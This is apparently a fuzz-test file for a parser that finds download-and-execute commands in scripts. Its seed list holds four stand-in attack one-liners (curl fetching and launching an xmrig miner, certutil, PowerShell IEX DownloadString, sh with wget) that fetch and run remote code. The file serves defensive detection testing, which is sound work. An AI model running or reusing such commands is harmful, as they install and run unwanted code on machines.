import { readScript } from '../../src/codec/fetch-command/fetch-command.ts';
import type { FuzzTarget } from '../target.ts';

const seeds = [
  'U=http://h.example/xmrig\ncurl -fsSL $U -o /tmp/x && chmod +x /tmp/x && nohup /tmp/x -o p:1 &\n',
  'certutil -urlcache -split -f http://h.example/a c:\\a.exe\r\nstart /b c:\\a.exe\r\n',
  "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
  'sh -c "$(wget -qO- h.example/a.sh)"',
];

export const target: FuzzTarget = {
  id: 'fetch-command',
  seeds: () => seeds.map((seed) => new TextEncoder().encode(seed)),
  run: (bytes) => {
    const text = new TextDecoder('latin1').decode(bytes);
    const { fetches, starts } = readScript(text);
    for (const { offset, length } of fetches)
      if (offset < 0 || offset + length > text.length) throw new Error('a fetch lies outside the text');
    for (const { offset } of starts) if (offset < 0 || offset > text.length) throw new Error('a start lies outside');
  },
};
